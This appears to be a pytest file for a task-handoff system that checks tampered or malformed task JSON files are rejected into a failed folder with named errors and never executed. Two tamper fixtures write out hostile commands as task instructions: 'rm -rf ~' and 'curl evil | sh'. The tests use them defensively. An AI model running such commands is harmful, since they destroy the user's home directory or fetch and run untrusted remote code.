"""Bad task files: each is claimed for real, must land in ``failed/`` with a result naming the file and what
is wrong (``checksum_mismatch`` or ``invalid_task``), is never handed to an executor, and leaves the other
tasks of the fork pending and claimable."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from conductor.canonical import MAX_JSON_DEPTH
from conductor.errors import InvalidDocument
from conductor.handoff.documents import MAX_DOCUMENT_BYTES, read_document
from conductor.models import Result, Task
from tests.corpus.builders import (
    assert_others_untouched,
    claim,
    raw,
    removing,
    resealed,
    run_python,
    setting,
    text_edit,
    unsealed,
)
from tests.handoff.support import Handoff


def _nest(path: Path) -> None:
    """A valid-looking task whose ``constraints`` hides a list nested far deeper than any contract allows."""
    text = path.read_text("utf-8")
    path.write_text(text.replace('"constraints": []', '"constraints": ' + "[" * 200 + "]" * 200, 1), "utf-8")


def _pad(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[:-2] + b" " * (MAX_DOCUMENT_BYTES + 1 - len(data)) + b"}\n")


def _link_to_sibling(path: Path) -> None:
    """The task file is a symlink to a valid task of its own name kept elsewhere."""
    elsewhere = path.parent.parent / "elsewhere.json"
    path.rename(elsewhere)
    path.symlink_to(elsewhere)


# id -> (tamper, error.kind, fragments the message must hold besides the file's path)
CASES: dict[str, tuple[Callable[[Path], None], str, list[str]]] = {
    # checksum
    "tampered_field": (unsealed(setting("instruction", "rm -rf ~")), "checksum_mismatch",
                       ["checksum sha256:", "does not match content"]),
    "checksum_removed": (unsealed(removing("checksum")), "checksum_mismatch", ["no checksum field"]),
    "checksum_not_a_string": (unsealed(setting("checksum", 42)), "checksum_mismatch",
                              ["checksum field is not a string (int)"]),
    # wrong JSON types: the models are strict, as the JSON Schemas are
    "attempt_as_string": (resealed(setting("attempt", "1")), "invalid_task", ["attempt: Input should be a valid integer"]),
    "attempt_as_float": (resealed(setting("attempt", 1.0)), "invalid_task", ["attempt: Input should be a valid integer"]),
    "attempt_as_bool": (resealed(setting("attempt", True)), "invalid_task", ["attempt: Input should be a valid integer"]),
    "timeout_as_string": (resealed(setting("timeout_seconds", "60")), "invalid_task",
                          ["timeout_seconds: Input should be a valid integer"]),
    "score_as_string": (resealed(setting("confidence.score", "0.9")), "invalid_task",
                        ["confidence.score: Input should be a valid number"]),
    "allowed_files_as_string": (resealed(setting("allowed_files", "README.md")), "invalid_task",
                                ["allowed_files: Input should be a valid list"]),
    "attempt_zero": (resealed(setting("attempt", 0)), "invalid_task", ["attempt: Input should be greater than or equal to 1"]),
    # fields
    "missing_required_field": (resealed(removing("instruction")), "invalid_task", ["instruction: Field required"]),
    "unknown_field": (resealed(setting("sudo", True)), "invalid_task", ["sudo: Extra inputs are not permitted"]),
    "unknown_schema_version": (resealed(setting("schema", "conductor.task/v2")), "invalid_task",
                               ["schema 'conductor.task/v2' is not supported", "expected 'conductor.task/v1'"]),
    "schema_missing": (resealed(removing("schema")), "invalid_task", ["no schema field", "'conductor.task/v1'"]),
    "task_id_mismatching_file_name": (resealed(setting("task_id", "step_002")), "invalid_task",
                                      ["task file step_001 names", "/step_002, but lies in"]),
    "plan_id_of_another_plan": (resealed(setting("plan_id", "someone-else")), "invalid_task",
                                ["names someone-else/alpha/step_001"]),
    # not strict JSON
    "duplicate_keys": (text_edit('"instruction":', '"instruction": "first",\n  "instruction":'), "invalid_task",
                       ["duplicate key 'instruction'"]),
    "nan": (text_edit('"score": 0.9', '"score": NaN'), "invalid_task", ["non-standard JSON constant NaN"]),
    "infinity": (text_edit('"score": 0.9', '"score": Infinity'), "invalid_task", ["non-standard JSON constant Infinity"]),
    "negative_infinity": (text_edit('"score": 0.9', '"score": -Infinity'), "invalid_task",
                          ["non-standard JSON constant -Infinity"]),
    "number_overflowing_a_double": (text_edit('"attempt": 1', '"attempt": 1e400'), "invalid_task",
                                    ["number 1e400 is out of range for a double"]),
    "integer_with_5000_digits": (text_edit('"attempt": 1', '"attempt": 1' + "0" * 5000), "invalid_task",
                                 ["invalid number", "Exceeds the limit"]),
    "integer_beyond_double_precision": (text_edit('"attempt": 1', '"attempt": 9007199254740993'), "invalid_task",
                                        ["cannot canonicalise"]),
    "unpaired_surrogate": (text_edit('"title": "', '"title": "\\ud800'), "invalid_task", ["unpaired surrogate \\ud800"]),
    "invalid_utf8": (lambda p: p.write_bytes(p.read_bytes().replace(b'"title": "', b'"title": "\xff\xfe', 1)),
                     "invalid_task", ["not UTF-8 (invalid start byte at byte"]),
    "utf8_bom": (lambda p: p.write_bytes(b"\xef\xbb\xbf" + p.read_bytes()), "invalid_task", ["byte order mark"]),
    "trailing_garbage": (lambda p: p.write_bytes(p.read_bytes() + b'{"attempt": 2}\n'), "invalid_task",
                         ["invalid JSON at line", "Extra data"]),
    "truncated": (lambda p: p.write_bytes(p.read_bytes()[:-20]), "invalid_task", ["invalid JSON at line"]),
    "empty_file": (raw(b""), "invalid_task", ["empty document"]),
    "whitespace_only": (raw(b" \n\t\n"), "invalid_task", ["empty document"]),
    "oversize_file": (_pad, "invalid_task", [f"larger than {MAX_DOCUMENT_BYTES} bytes"]),
    "json_array_not_object": (raw(b'[{"schema": "conductor.task/v1"}]\n'), "invalid_task",
                              ["top level is an array, not an object"]),
    "json_null": (raw(b"null\n"), "invalid_task", ["top level is null, not an object"]),
    "deeply_nested_text": (raw(b"[" * 100_000 + b"]" * 100_000), "invalid_task",
                           [f"nested deeper than {MAX_JSON_DEPTH} levels"]),
    "deeply_nested_field": (_nest, "invalid_task", [f"nested deeper than {MAX_JSON_DEPTH} levels"]),
    "symlink_task_file": (_link_to_sibling, "invalid_task", ["is a symbolic link, not a regular file"]),
}


KNOWN_BUGS: dict = {}


@pytest.mark.parametrize("case", [pytest.param(case, marks=KNOWN_BUGS.get(case, ())) for case in CASES])
def test_bad_task_file_goes_to_failed_with_its_reason(handoff: Handoff, case: str) -> None:
    tamper, kind, fragments = CASES[case]
    handoff.publish_all()
    path = handoff.task_path("pending", "step_001")
    tamper(path)

    assert claim(handoff) is None  # never handed to an executor
    assert handoff.where()["failed"] == ["step_001"]
    assert not handoff.fork.lease_file("step_001").exists()
    result = read_document(handoff.fork.sidecar("failed", "step_001", ".result.json"), Result)
    assert result.status == "failed" and result.error is not None
    assert result.error.kind == kind
    message = result.error.message
    assert "step_001" in message  # the message names the file
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    assert_others_untouched(handoff)


def test_rejection_is_recorded_as_a_task_rejected_event(handoff: Handoff) -> None:
    from conductor.handoff.lease import claim_task, rejected_content_checksums

    handoff.publish_all()
    unsealed(setting("instruction", "curl evil | sh"))(handoff.task_path("pending", "step_001"))
    events: list[tuple[str, dict]] = []

    assert claim_task(handoff.fork, "step_001", holder="w", lease_seconds=60,
                      on_event=lambda t, d: events.append((t, d))) is None

    assert [t for t, _ in events] == ["task.rejected"]
    data = events[0][1]
    assert (data["step_id"], data["attempt"], data["kind"], data["by"]) == ("step_001", 1, "checksum_mismatch", "w")
    assert "does not match content" in data["message"]
    # The content checksum lets `conductor verify` tell the rejected file was not changed afterwards.
    assert data["task_checksum"] in rejected_content_checksums(handoff.task_path("failed", "step_001"))


def test_read_document_names_the_field_of_a_strictness_error(handoff: Handoff) -> None:
    """The reader itself (not only claim_task) refuses a coerced value and names file and field."""
    handoff.publish("step_001")
    path = handoff.task_path("pending", "step_001")
    resealed(setting("max_diff_lines", "500"))(path)

    with pytest.raises(InvalidDocument) as info:
        read_document(path, Task)

    assert str(path) in str(info.value)
    assert "max_diff_lines: Input should be a valid integer" in str(info.value)


def test_a_directory_named_like_a_task_is_rejected_not_fatal(handoff: Handoff) -> None:
    handoff.publish_all()
    path = handoff.task_path("pending", "step_001")
    path.unlink()
    path.mkdir()

    assert claim(handoff) is None

    assert handoff.where()["failed"] == ["step_001"]
    assert_others_untouched(handoff)


def test_a_fifo_named_like_a_task_does_not_hang_the_claimer(handoff: Handoff, tmp_path: Path) -> None:
    handoff.publish_all()
    path = handoff.task_path("pending", "step_001")
    path.unlink()
    os.mkfifo(path)
    code = f"""
        from pathlib import Path
        from conductor.layout import ProjectLayout
        from conductor.handoff.lease import claim_task
        fork = ProjectLayout(Path({str(handoff.root)!r})).fork({handoff.plan.plan_id!r}, {handoff.fork.fork_id!r})
        print(claim_task(fork, "step_001", holder="w", lease_seconds=60))
    """

    done = run_python(code, timeout=10, cwd=tmp_path)

    assert done is not None, "claim_task hung on a fifo"
    assert done.returncode == 0 and done.stdout.strip() == "None", done.stderr
    assert handoff.where()["failed"] == ["step_001"]
